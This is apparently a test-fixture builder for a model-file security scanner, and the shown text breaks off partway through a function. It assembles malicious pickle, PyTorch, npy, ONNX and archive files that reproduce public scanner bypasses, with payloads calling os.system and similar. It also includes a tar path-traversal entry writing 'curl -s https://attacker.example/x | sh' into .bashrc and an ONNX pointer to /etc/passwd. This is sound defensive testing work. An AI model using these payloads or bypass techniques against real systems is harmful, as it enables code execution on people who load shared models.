"""Build the malicious corpus for the scanner tests into a temporary folder (never committed).

Every payload is built opcode by opcode, so no file here is produced by running anything; the
commands they name (``echo tensorscope-pwned``) are never executed by the scanner or the tests.
Real containers come from the real libraries (torch.save, torch.jit.save, onnx) and are then
rewritten to carry the payload, keeping their storages.

``build(out) -> list[Case]``; each `Case` says which rule (and minimum severity, and trigger when
it matters) the scanner MUST report, and cites the public bypass it reproduces where there is one.
"""
from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

CMD = "echo tensorscope-pwned"

# The classic payloads: (module, name) of a callable that runs code when a loader calls it.
TARGETS = [("os", "system"), ("subprocess", "Popen"), ("builtins", "eval"), ("builtins", "exec"),
           ("posix", "system"), ("nt", "system"), ("runpy", "_run_code"), ("webbrowser", "open"),
           ("socket", "create_connection")]


@dataclass
class Case:
    name: str
    path: Path
    rule: str                 # a rule the scan must report
    severity: str = "critical"  # at least this severity for that rule
    trigger: str | None = None  # and this trigger, when given
    source: str = ""          # the public bypass it reproduces


# --- opcode helpers ------------------------------------------------------------------------------
def _unicode(s: str, proto: int) -> bytes:
    b = s.encode("utf-8")
    if proto >= 4 and len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b           # SHORT_BINUNICODE
    if proto >= 1:
        return b"X" + struct.pack("<I", len(b)) + b    # BINUNICODE
    return b"V" + s.encode("raw_unicode_escape") + b"\n"  # UNICODE


def _proto(proto: int) -> bytes:
    return b"\x80" + bytes([proto]) if proto >= 2 else b""


def _frame(body: bytes, proto: int) -> bytes:
    if proto < 4:
        return body
    return b"\x95" + struct.pack("<Q", len(body)) + body


def _global(mod: str, name: str) -> bytes:
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def _stack_global(mod: str, name: str, proto: int = 4) -> bytes:
    return _unicode(mod, proto) + b"\x94" + _unicode(name, proto) + b"\x94\x93"


def reduce_call(mod: str, name: str, arg: str, proto: int) -> bytes:
    """GLOBAL + args tuple + REDUCE, at any protocol (the classic ``__reduce__`` payload)."""
    body = _global(mod, name) + b"(" + _unicode(arg, proto) + b"tR"
    return body


def payload(mod: str, name: str, proto: int, form: str, arg: str = CMD) -> bytes:
    """A complete pickle calling ``mod.name(arg)`` in one opcode form."""
    if form == "global-reduce":
        body = reduce_call(mod, name, arg, proto)
    elif form == "stack-global":
        body = _stack_global(mod, name, proto) + _unicode(arg, proto) + b"\x85R"
    elif form == "stack-global-memo":
        # names stored in the memo first, fetched with BINGET: scanners that only look at the
        # opcodes right before STACK_GLOBAL miss it (picklescan issue #22, ImaginaryCTF 2023)
        body = (_unicode("decoy", proto) + b"q\x00" + b"0" + _unicode(mod, proto) + b"q\x01" + b"0"
                + _unicode(name, proto) + b"q\x02" + b"0" + b"h\x01h\x02\x93" + _unicode(arg, proto)
                + b"\x85R")
    elif form == "inst":
        body = b"(" + _unicode(arg, 0) + b"i" + mod.encode() + b"\n" + name.encode() + b"\n"
    elif form == "obj":
        body = b"(" + _global(mod, name) + _unicode(arg, proto) + b"o"
    elif form == "newobj":
        body = _global(mod, name) + _unicode(arg, proto) + b"\x85\x81"
    elif form == "newobj-ex":
        body = _global(mod, name) + _unicode(arg, proto) + b"\x85}\x92"
    elif form == "build-setstate":
        # BUILD with a slot state {'__setstate__': callable}, then a second BUILD calls it
        body = (_global("collections", "OrderedDict") + b")R" + b"N}" + _unicode("__setstate__", proto)
                + _global(mod, name) + b"s\x86b" + _unicode(arg, proto) + b"b")
    else:
        raise ValueError(form)
    return _proto(proto) + _frame(body + b".", proto)


FORMS_BY_PROTO = {
    0: ["global-reduce", "inst", "obj", "build-setstate"],
    1: ["global-reduce", "inst", "obj", "build-setstate"],
    2: ["global-reduce", "obj", "newobj", "build-setstate"],
    3: ["global-reduce", "newobj", "build-setstate"],
    4: ["global-reduce", "stack-global", "stack-global-memo", "newobj", "newobj-ex", "build-setstate"],
    5: ["global-reduce", "stack-global", "stack-global-memo", "newobj", "newobj-ex", "build-setstate"],
}


def _dotted(mod: str, name: str) -> str:
    return f"{mod}.{name}"


# --- containers -----------------------------------------------------------------------------------
def _torch_zip_bytes(obj) -> bytes:
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _rewrite_zip(src: bytes, edit) -> bytes:
    """Copy a zip member by member (STORED), letting ``edit(name, data)`` change each member."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = edit(info.filename, zin.read(info))
            if data is None:
                continue
            zout.writestr(info.filename, data)
    return out.getvalue()


def inject_pickle(original: bytes, evil_ops: bytes) -> bytes:
    """Run ``evil_ops`` (ops leaving one value) first, pop its result, then the original pickle:
    the loader still gets the original object (storages intact) after the payload ran."""
    proto = b""
    rest = original
    if original[:1] == b"\x80":
        proto, rest = original[:2], original[2:]
    return proto + evil_ops + b"0" + rest


def torch_zip_with_payload(ops: bytes) -> bytes:
    import torch
    base = _torch_zip_bytes({"w": torch.arange(6, dtype=torch.float32)})
    return _rewrite_zip(base, lambda n, d: inject_pickle(d, ops) if n.endswith("/data.pkl") else d)


def legacy_bytes(obj) -> bytes:
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=False)
    return buf.getvalue()


def npy_object(payload_bytes: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + payload_bytes


def _patch_zip(data: bytes, member: str, *, cd_flags_or: int = 0, cd_crc: int | None = None,
               local_name: bytes | None = None) -> bytes:
    """Edit one member's central-directory flags/CRC or its local header name in place."""
    buf = bytearray(data)
    name = member.encode()
    # central directory entry
    pos = buf.find(b"PK\x01\x02")
    while pos >= 0:
        n_len, = struct.unpack_from("<H", buf, pos + 28)
        if bytes(buf[pos + 46:pos + 46 + n_len]) == name:
            flags, = struct.unpack_from("<H", buf, pos + 8)
            struct.pack_into("<H", buf, pos + 8, flags | cd_flags_or)
            if cd_crc is not None:
                struct.pack_into("<I", buf, pos + 16, cd_crc)
            if local_name is not None:
                off, = struct.unpack_from("<I", buf, pos + 42)
                ln, = struct.unpack_from("<H", buf, off + 26)
                assert len(local_name) == ln
                buf[off + 30:off + 30 + ln] = local_name
        pos = buf.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


# --- the corpus -----------------------------------------------------------------------------------
def build(out: Path) -> list[Case]:
    out.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, data: bytes, rule: str, severity: str = "critical", trigger: str | None = None,
            source: str = "") -> Path:
        path = out / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        cases.append(Case(name, path, rule, severity, trigger, source))
        return path

    # 1. every classic target x protocol x opcode form, as a plain pickle
    for mod, name in TARGETS:
        trig = {"posix": "os", "nt": "os"}.get(mod, mod)
        for proto, forms in FORMS_BY_PROTO.items():
            for form in forms:
                add(f"plain/{mod}.{name}.p{proto}.{form}.pkl", payload(mod, name, proto, form),
                    "pickle.dangerous-global")
    # posix/nt are reported under their own names
    _ = trig

    os_system = reduce_call("os", "system", CMD, 2)

    # 2. real containers carrying the payload
    add("torch/zip_data_pkl.pt", torch_zip_with_payload(os_system), "pickle.dangerous-global",
        trigger="os.system")
    add("torch/zip_stack_global_p4.pt",
        torch_zip_with_payload(_stack_global("subprocess", "Popen") + _unicode(CMD, 4) + b"\x85R"),
        "pickle.dangerous-global", trigger="subprocess.Popen")
    import torch
    legacy = legacy_bytes({"w": torch.arange(4, dtype=torch.float32)})
    add("torch/legacy_prepended.pt", payload("os", "system", 2, "global-reduce") + legacy,
        "pickle.dangerous-global", trigger="os.system")
    import pickle as _pickle  # used only to WRITE benign pickles (dumps), never to load
    main = _pickle.dumps({"a": 1}, protocol=2)
    legacy_evil = (_pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + _pickle.dumps(1001, protocol=2)
                   + _pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                    "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
                   + inject_pickle(main, reduce_call("runpy", "_run_code", "import os", 2))
                   + _pickle.dumps([], protocol=2))
    add("torch/legacy_main_pickle.pt", legacy_evil, "pickle.dangerous-global", trigger="runpy._run_code")

    # TorchScript: a data.pkl payload, and code/ calling outside torch
    class M(torch.nn.Module):
        def forward(self, x):
            return x * 2
    ts_buf = io.BytesIO()
    torch.jit.save(torch.jit.script(M()), ts_buf)
    ts = ts_buf.getvalue()
    add("torchscript/data_pkl_payload.pt",
        _rewrite_zip(ts, lambda n, d: inject_pickle(d, os_system) if n.endswith("/data.pkl") else d),
        "pickle.dangerous-global", trigger="os.system")

    def evil_code(n, d):
        if "/code/" in n and n.endswith(".py"):
            return d + b"\ndef backdoor(x: int) -> int:\n  _0 = os.system(\"echo\")\n  return x\n"
        return d
    add("torchscript/code_os_system.pt", _rewrite_zip(ts, evil_code), "torchscript.foreign-call",
        trigger="os.system")

    def custom_code(n, d):
        if "/code/" in n and n.endswith(".py"):
            return d + b"\ndef extra(x: Tensor) -> Tensor:\n  return ops.my_evil_ns.run(x)\n"
        return d
    add("torchscript/code_custom_op.pt", _rewrite_zip(ts, custom_code), "torchscript.custom-op",
        "medium", trigger="ops.my_evil_ns.run")

    # .npy object arrays
    add("npy/object_os_system.npy", npy_object(payload("os", "system", 2, "global-reduce")),
        "pickle.dangerous-global", trigger="os.system")
    add("npy/object_p5_stack.npy", npy_object(payload("builtins", "exec", 5, "stack-global")),
        "pickle.dangerous-global", trigger="builtins.exec")
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("arr_0.npy", npy_object(payload("os", "system", 2, "global-reduce")))
    add("npy/object_in_npz.npz", npz.getvalue(), "pickle.dangerous-global", trigger="os.system")

    # compression wrappers (joblib-style) and zip wrappers
    p = payload("subprocess", "Popen", 4, "stack-global")
    add("wrapped/payload.pkl.gz", gzip.compress(p), "pickle.dangerous-global", trigger="subprocess.Popen")
    add("wrapped/payload.pkl.bz2", bz2.compress(p), "pickle.dangerous-global", trigger="subprocess.Popen")
    add("wrapped/payload.pkl.xz", lzma.compress(p), "pickle.dangerous-global", trigger="subprocess.Popen")
    add("wrapped/payload.pkl.lzma", lzma.compress(p, format=lzma.FORMAT_ALONE), "pickle.dangerous-global",
        trigger="subprocess.Popen")
    add("wrapped/payload.joblib", zlib.compress(p), "pickle.dangerous-global", trigger="subprocess.Popen")
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("model/weights.bin", p)   # judged by content, not by name
    add("wrapped/deflated_member.zip", zbuf.getvalue(), "pickle.dangerous-global", trigger="subprocess.Popen")
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_STORED) as z:
        z.writestr("outer/inner.pt", torch_zip_with_payload(os_system))
    add("wrapped/nested_torch_zip.zip", nested.getvalue(), "pickle.dangerous-global", trigger="os.system")

    # 3. public bypasses of other scanners
    add("bypass/pip_main.pkl", payload("pip", "main", 2, "global-reduce", "install evil"),
        "pickle.dangerous-global", trigger="pip.main",
        source="picklescan GHSA-655q-fx9r-782v (pip.main), CVE-2025-1716")
    add("bypass/pkgutil_resolve_name.pkl",
        _proto(2) + _global("pkgutil", "resolve_name") + b"(" + _unicode("os:system", 2) + b"tR("
        + _unicode(CMD, 2) + b"tR.", "pickle.dangerous-global", trigger="pkgutil.resolve_name",
        source="picklescan GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name reaches any attribute)")
    add("bypass/asyncio_submodule.pkl",
        payload("asyncio.unix_events", "_UnixSubprocessTransport", 4, "stack-global"),
        "pickle.dangerous-global", trigger="asyncio.unix_events._UnixSubprocessTransport",
        source="JFrog CVE-2025-10157 (sub-module of a denied module)")
    for dotted in ("object.__getattribute__", "object.__subclasses__",
                   "Module.__init__.__globals__"):
        mod = "torch.nn.modules.module" if dotted.startswith("Module") else "builtins"
        add(f"bypass/dunder_{dotted.rsplit('.', 1)[1].strip('_')}.pkl",
            payload(mod, dotted, 4, "stack-global", "os"), "pickle.dangerous-global",
            trigger=f"{mod}.{dotted}",
            source="protocol 4 dotted names walk attributes (pickle._getattribute): dunders "
                   "reach interpreter internals from an allowlisted class")
    add("bypass/_pickle_loads.pkl",
        _proto(2) + _global("_pickle", "loads") + b"(" + b"C" + bytes([len(os_system) + 3])
        + b"\x80\x02" + os_system + b"." + b"tR.", "pickle.second-stage",
        source="picklescan: _pickle vs pickle alias")
    add("bypass/config_module_load_config.pkl",
        payload("torch.utils._config_module", "ConfigModule.load_config", 4, "stack-global", "x"),
        "pickle.second-stage", trigger="torch.utils._config_module.ConfigModule.load_config",
        source="picklescan advisory: torch.utils._config_module.ConfigModule.load_config (pickle in pickle)")
    add("bypass/numpy_f2py.pkl", payload("numpy.f2py.crackfortran", "getlincoef", 2, "global-reduce"),
        "pickle.dangerous-global", trigger="numpy.f2py.crackfortran.getlincoef",
        source="picklescan advisory: numpy.f2py evaluates strings")
    add("bypass/ensurepip_run_pip.pkl", payload("ensurepip", "_run_pip", 2, "global-reduce"),
        "pickle.dangerous-global", trigger="ensurepip._run_pip",
        source="picklescan GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip)")
    add("bypass/antigravity_import.pkl", _proto(2) + _global("antigravity", "geohash") + b".",
        "pickle.dangerous-global", trigger="antigravity.geohash",
        source="stdlib antigravity: importing it calls webbrowser.open (an import-only payload)")
    add("bypass/package_main_import.pkl", _proto(2) + _global("json.__main__", "main") + b".",
        "pickle.dangerous-global", trigger="json.__main__.main",
        source="a package's __main__ module runs the package as a script when imported "
               "(tkinter.__main__ and turtledemo.__main__ call main() unguarded)")
    add("bypass/timeit.pkl", payload("timeit", "timeit", 2, "global-reduce"),
        "pickle.dangerous-global", trigger="timeit.timeit",
        source="picklescan GHSA-v7x6-rv5q-mhwc (timeit.timeit)")
    add("bypass/operator_methodcaller.pkl",
        _proto(2) + _global("operator", "methodcaller") + b"(" + _unicode("system", 2) + _unicode(CMD, 2)
        + b"tR(" + _global("builtins", "__import__") + b"(" + _unicode("os", 2) + b"tRtR.",
        "pickle.dangerous-global", trigger="operator.methodcaller",
        source="operator.methodcaller('system', cmd)(__import__('os')) chain (picklescan _operator advisories GHSA-955r-x9j8-7rhh)")
    add("bypass/_operator_attrgetter.pkl", payload("_operator", "attrgetter", 2, "global-reduce", "system"),
        "pickle.dangerous-global", trigger="_operator.attrgetter",
        source="picklescan GHSA-46h3-79wf-xr6c (_operator vs operator)")
    add("bypass/getattr_chain.pkl",
        _proto(2) + _global("builtins", "getattr") + b"(" + _global("builtins", "__import__") + b"("
        + _unicode("os", 2) + b"tR" + _unicode("system", 2) + b"tR(" + _unicode(CMD, 2) + b"tR.",
        "pickle.indirect-call", "high", source="getattr(__import__('os'), 'system')(cmd) gadget chain")
    add("bypass/copyreg_reconstructor.pkl",
        _proto(1) + _global("copy_reg", "_reconstructor") + b"(" + _global("subprocess", "Popen")
        + _global("__builtin__", "object") + b"NtR.", "pickle.dangerous-global", trigger="subprocess.Popen",
        source="__reduce__ via copyreg._reconstructor")
    add("bypass/builtins_type.pkl",
        _proto(2) + _global("builtins", "type") + b"(" + _unicode("X", 2) + b")}tR.",
        "pickle.dangerous-global", trigger="builtins.type", source="builtins.type class-creation trick")
    add("bypass/pathlib_write.pkl",
        payload("pathlib", "Path.write_text", 4, "stack-global", "/tmp/x"), "pickle.dangerous-global",
        trigger="pathlib.Path.write_text", source="pathlib write methods through a dotted STACK_GLOBAL name")
    add("bypass/dunder_builtin_eval_p0.bin", payload("__builtin__", "eval", 0, "global-reduce", "1+1"),
        "pickle.dangerous-global", trigger="builtins.eval",
        source="JFrog CVE-2025-10155 (protocol-0 pickle named .bin: no \\x80 magic)")
    add("bypass/marshal_codetype.pkl",
        _proto(2) + _global("types", "FunctionType") + b"(" + _global("marshal", "loads") + b"("
        + b"C\x04abcd" + b"tR" + b"}tR.", "pickle.second-stage", source="marshal.loads + types.FunctionType")
    add("bypass/sys_modules.pkl", payload("sys", "modules", 4, "stack-global", "x"),
        "pickle.dangerous-global", trigger="sys.modules")
    add("bypass/unknown_with_string.pkl", payload("evilpkg.backdoor", "run", 2, "global-reduce"),
        "pickle.unknown-call-string", "high", trigger="evilpkg.backdoor.run",
        source="anything outside the allowlist called with a string from the file")
    add("bypass/unknown_import_only.pkl", _proto(2) + _global("evilpkg", "Thing") + b".",
        "pickle.user-class", "medium", trigger="evilpkg.Thing")
    add("bypass/extension_code.pkl", _proto(2) + b"\x82\x07(" + _unicode(CMD, 2) + b"tR.",
        "pickle.indirect-call", "high", source="EXT1 copyreg extension registry code")

    # second stages
    inner = payload("os", "system", 2, "global-reduce")
    add("stage2/pickle_loads_codecs.pkl",
        _proto(2) + _global("pickle", "loads") + b"(" + _global("_codecs", "encode") + b"("
        + _unicode(inner.decode("latin-1"), 2) + _unicode("latin1", 2) + b"tRtR.",
        "pickle.second-stage", source="pickle.loads(_codecs.encode(str, 'latin1'))")
    ps = add("stage2/pickle_loads_codecs_inner.pkl",
             _proto(2) + _global("pickle", "loads") + b"(" + _global("_codecs", "encode") + b"("
             + _unicode(inner.decode("latin-1"), 2) + _unicode("latin1", 2) + b"tRtR.",
             "pickle.dangerous-global", trigger="os.system", source="the second stage itself is scanned")
    _ = ps
    add("stage2/torch_load_bytesio.pkl",
        _proto(2) + _global("torch", "load") + b"(" + _global("io", "BytesIO") + b"(" + b"C"
        + bytes([len(inner)]) + inner + b"tRtR.", "pickle.dangerous-global", trigger="os.system",
        source="torch.load(io.BytesIO(payload))")
    add("stage2/load_from_bytes.pkl",
        _proto(2) + _global("torch.storage", "_load_from_bytes") + b"(" + b"C" + bytes([len(inner)])
        + inner + b"tR.", "pickle.dangerous-global", trigger="os.system",
        source="torch.storage._load_from_bytes(bytes)")

    # 4. structure that hides code
    add("structure/broken_after_payload.pkl", inner[:-1] + b"\xff\xfe garbage", "pickle.dangerous-global",
        trigger="os.system", source="ReversingLabs nullifAI: payload, then a deliberately broken pickle")
    add("structure/broken_after_payload_flag.pkl", inner[:-1] + b"\xff\xfe garbage", "pickle.parse-error",
        "high", source="nullifAI: the break itself is reported")
    torch_evil = torch_zip_with_payload(os_system)
    broken_zip = _rewrite_zip(torch_evil, lambda n, d: d[:-1] + b"\xff" if n.endswith("/data.pkl") else d)
    add("structure/broken_pickle_in_zip.pt", broken_zip, "pickle.dangerous-global", trigger="os.system",
        source="nullifAI: broken pickle inside a torch archive")
    add("structure/nullifai.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64), "file.unsupported-archive", "high",
        source="ReversingLabs nullifAI: 7z-compressed PyTorch archives skipped by picklescan")
    add("structure/pickle_after_stop.pkl", _pickle.dumps({"ok": 1}, protocol=2) + inner,
        "pickle.dangerous-global", trigger="os.system", source="opcodes after STOP / several pickles")
    add("structure/pickle_after_stop_flag.pkl", _pickle.dumps({"ok": 1}, protocol=2) + inner,
        "pickle.multiple-streams", "medium")
    # every opcode starts a FRAME of length 1: the opcode's argument runs past the frame's end,
    # which CPython's C unpickler (what pickle.load uses) accepts
    body = reduce_call("os", "system", CMD, 2) + b"."
    import pickletools
    starts = [pos for _, _, pos in pickletools.genops(body)] + [len(body)]
    one_byte_frames = b"\x80\x04" + b"".join(b"\x95" + struct.pack("<Q", 1) + body[a:b]
                                             for a, b in zip(starts, starts[1:]))
    add("structure/one_byte_frames.pkl", one_byte_frames, "pickle.dangerous-global", trigger="os.system",
        source="1-byte FRAMEs that split opcodes across frames")
    # zip tricks on a torch archive carrying the payload
    add("zip/bad_crc.pt", _patch_zip(torch_evil, "archive/data.pkl", cd_crc=0xDEADBEEF),
        "pickle.dangerous-global", trigger="os.system",
        source="JFrog CVE-2025-10156 (bad CRC makes picklescan skip the member)")
    add("zip/bad_crc_flag.pt", _patch_zip(torch_evil, "archive/data.pkl", cd_crc=0xDEADBEEF),
        "zip.bad-crc", "medium")
    add("zip/flag_bits.pt", _patch_zip(torch_evil, "archive/data.pkl", cd_flags_or=0x0001),
        "pickle.dangerous-global", trigger="os.system",
        source="picklescan GHSA-w8jq-xcqf-f792 / CVE-2025-1945 (zip flag bits)")
    add("zip/flag_bits_flag.pt", _patch_zip(torch_evil, "archive/data.pkl", cd_flags_or=0x0001),
        "zip.encrypted-member", "high")
    add("zip/local_name_mismatch.pt",
        _patch_zip(torch_evil, "archive/data.pkl", local_name=b"archive/data.pkX"),
        "zip.local-name-mismatch", "high",
        source="picklescan GHSA-7q5r-7gvp-wc82 / CVE-2025-1944 (local header name differs)")
    add("zip/local_name_mismatch_payload.pt",
        _patch_zip(torch_evil, "archive/data.pkl", local_name=b"archive/data.pkX"),
        "pickle.dangerous-global", trigger="os.system")
    stray = _rewrite_zip(_torch_zip_bytes({"w": torch.zeros(2)}), lambda n, d: d)
    with zipfile.ZipFile(io.BytesIO(stray)) as z:
        pass
    sbuf = io.BytesIO(stray)
    with zipfile.ZipFile(sbuf, "a", zipfile.ZIP_STORED) as z:
        z.writestr("archive/.data/extra_state", inner)
        z.writestr("archive/notes.txt", payload("subprocess", "Popen", 2, "global-reduce"))
    add("zip/stray_members.pt", sbuf.getvalue(), "pickle.dangerous-global", trigger="os.system",
        source="picklescan GHSA-769v-p64c-89pr / CVE-2025-1889 (pickle members with non-.pkl names)")
    add("zip/stray_members_txt.pt", sbuf.getvalue(), "pickle.dangerous-global", trigger="subprocess.Popen")
    dup = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_torch_zip_bytes({"w": torch.zeros(2)}))) as zin, \
            zipfile.ZipFile(dup, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
            if info.filename.endswith("/data.pkl"):
                zout.writestr(info.filename, inject_pickle(zin.read(info), os_system))
    import warnings
    warnings.filterwarnings("ignore", "Duplicate name")
    add("zip/duplicate_data_pkl.pt", dup.getvalue(), "zip.duplicate-name", "high",
        source="duplicate names: zipfile takes the last, miniz its own pick")
    add("zip/duplicate_data_pkl_payload.pt", dup.getvalue(), "pickle.dangerous-global", trigger="os.system")
    add("zip/prepended_jpeg.pt", b"\xff\xd8\xff\xe0" + bytes(60) + torch_evil, "pickle.dangerous-global",
        trigger="os.system", source="bytes prepended to a zip: zipfile reads it, torch.load does not")
    add("zip/prepended_jpeg_flag.pt", b"\xff\xd8\xff\xe0" + bytes(60) + torch_evil, "file.polyglot", "high")
    add("zip/pickle_then_zip.pt", inner + _torch_zip_bytes({"w": torch.zeros(2)}),
        "pickle.dangerous-global", trigger="os.system",
        source="polyglot: torch.load reads the leading pickle, zip tools see an archive")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("bomb/data.pkl", b"\x80\x02" + b"N0" * (3 << 20) + b"N.")
    add("zip/deflate_bomb.zip", bomb.getvalue(), "file.decompression-limit", "high",
        source="decompression bombs: output is capped (the test sets a 1 MiB cap)")

    # misleading extensions
    add("names/pickle_named.safetensors", inner, "file.extension-mismatch", "high",
        source="a pickle named .safetensors")
    add("names/pickle_named_payload.safetensors", inner, "pickle.dangerous-global", trigger="os.system")
    add("names/zip_named.jpg", torch_evil, "file.extension-mismatch", "medium", source="a zip named .jpg")
    add("names/zip_named_payload.jpg", torch_evil, "pickle.dangerous-global", trigger="os.system")
    add("dcp/.metadata", payload("os", "system", 4, "stack-global"), "pickle.dangerous-global",
        trigger="os.system", source="DCP .metadata is a pickle")

    # ONNX: external data leaving the folder, custom-op domains
    import onnx
    from onnx import TensorProto, helper
    t = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    t.ClearField("float_data")
    t.data_location = TensorProto.EXTERNAL
    for k, v in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "8")):
        e = t.external_data.add()
        e.key, e.value = k, v
    node = helper.make_node("Identity", ["w"], ["y"])
    g = helper.make_graph([node], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
                          initializer=[t])
    add("onnx/external_escape.onnx", helper.make_model(g).SerializeToString(),
        "onnx.external-data-escape", "high", source="ONNX external data path traversal (GHSA-538c-55jv-c5g9)")
    node = helper.make_node("EvilOp", ["x"], ["y"], domain="com.evil.ops")
    g = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])])
    m = helper.make_model(g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.evil.ops", 1)])
    add("onnx/custom_domain.onnx", m.SerializeToString(), "onnx.custom-domain", "medium", trigger="com.evil.ops")
    _ = onnx

    # safetensors headers that lie
    header = b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,1000]}}'
    header += b" " * (-len(header) % 8)
    add("safetensors/lying_header.safetensors", struct.pack("<Q", len(header)) + header + bytes(16),
        "file.unparseable", "high", source="safetensors offsets out of range")

    _issue14_sections(add, inner, torch)
    bypasshunt_sections(add, inner)
    issue23_sections(add)
    # a .nemo tar (NeMo extracts it to restore the model) with a member climbing out of the folder
    import tarfile
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for member, text in (("./model_config.yaml", b"name: asr\n"),
                             ("../../../.bashrc", b"curl -s https://attacker.example/x | sh\n")):
            info = tarfile.TarInfo(member)
            info.size = len(text)
            t.addfile(info, io.BytesIO(text))
    add("archive/tar_traversal.nemo", buf.getvalue(), "tar.absolute-or-parent-path", "high",
        source="tarfile.extractall path traversal (CVE-2007-4559) in a NeMo .nemo tar")
    return cases


# --- issue 14: the classes a wider corpus exposed ---------------------------------------------------
def billion_laughs(levels: int = 60, memo: bool = False) -> bytes:
    """A pickle of ~2^levels elements in a few hundred bytes: each level is a pair of the same
    object (DUP, or BINPUT/BINGET through the memo), so a copy or repr materialises them all."""
    body = b"N"
    for i in range(levels):
        if memo:
            body += b"q" + bytes([i % 256]) + b"h" + bytes([i % 256]) + b"\x86"   # BINPUT i; BINGET i; TUPLE2
        else:
            body += b"2\x86"                                                    # DUP; TUPLE2
    return b"\x80\x02" + body + b"."


def _safetensors_with_metadata(meta: dict[str, str]) -> bytes:
    import json
    header = json.dumps({"__metadata__": meta, "w": {"dtype": "F32", "shape": [2],
                                                     "data_offsets": [0, 8]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(8)


def _issue14_sections(add, inner: bytes, torch) -> None:
    import base64
    import pickle as _pickle

    import numpy as np

    # Class 1: payloads carried as data. Loading runs nothing; pickle.loads(obj[key]) in the
    # consumer runs the payload (fickling "pickle in pickle" / modelscan nested-pickle notes).
    src1 = "issue 14 class 1: a complete pickle stored as data (fickling/modelaudit nested payloads)"
    add("carrier/bytes_value.pkl", _pickle.dumps({"blob": inner}, protocol=2),
        "pickle.dangerous-global", trigger="os.system", source=src1)
    add("carrier/bytes_value_flag.pkl", _pickle.dumps({"blob": inner}, protocol=4),
        "data.embedded-pickle", "low", source=src1)
    add("carrier/base64_value.pkl", _pickle.dumps({"blob": base64.b64encode(inner).decode()}, protocol=4),
        "pickle.dangerous-global", trigger="os.system", source=src1)
    add("carrier/hex_value.pkl", _pickle.dumps({"blob": inner.hex()}, protocol=2),
        "pickle.dangerous-global", trigger="os.system", source=src1)
    add("carrier/extra_state.pt", _torch_zip_bytes({"w": torch.zeros(2), "layer._extra_state": inner}),
        "pickle.dangerous-global", trigger="os.system",
        source=src1 + "; nn.Module get_extra_state() bytes saved in a state_dict")
    add("carrier/metadata.safetensors",
        _safetensors_with_metadata({"format": "pt", "config": base64.b64encode(inner).decode()}),
        "pickle.dangerous-global", trigger="os.system",
        source=src1 + "; safetensors __metadata__ is free text that consumers may decode")
    # Class 2: a second stream after STOP, wherever it starts (fickling's "multiple pickles";
    # picklescan reads only the first stream).
    src2 = "issue 14 class 2: a stream after STOP behind a separator or padding (fickling issue #95)"
    benign = _pickle.dumps({"ok": 1}, protocol=2)
    for name, gap in (("newline", b"\n"), ("padding", b"\x00" * 100), ("junk", b"JUNK\xff\xfe\x01"),
                      ("space", b" ")):
        add(f"streams/after_stop_{name}.pkl", benign + gap + inner, "pickle.dangerous-global",
            trigger="os.system", source=src2)
    add("streams/after_stop_proto0.pkl", benign + b"\n" + payload("os", "system", 0, "global-reduce"),
        "pickle.dangerous-global", trigger="os.system", source=src2)
    # Class 3: reference bombs ("billion laughs" through DUP and the memo).
    src3 = "issue 14 class 3: memo/DUP billion laughs (CPython bpo-31624 style, XML billion laughs)"
    add("bombs/dup_2e60.pkl", billion_laughs(60), "pickle.reference-bomb", "high", source=src3)
    add("bombs/memo_2e60.pkl", billion_laughs(60, memo=True), "pickle.reference-bomb", "high", source=src3)
    # Class 4: what the real loader rejects is never clean.
    src4 = "issue 14 class 4: input the real loader rejects"
    buf = io.BytesIO()
    np.save(buf, np.arange(64, dtype=np.float32))
    add("rejects/truncated_by_5.npy", buf.getvalue()[:-5], "file.loader-rejects", "medium",
        source=src4 + " (np.load: cannot reshape array)")
    add("rejects/unhashable_key.pkl", b"\x80\x02}]Ns.", "pickle.loader-rejects", "medium",
        source=src4 + " (CPython: TypeError: unhashable type: 'list')")
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("model.pkl", b"\x80\x04\x95" + bytes(range(7, 200)))
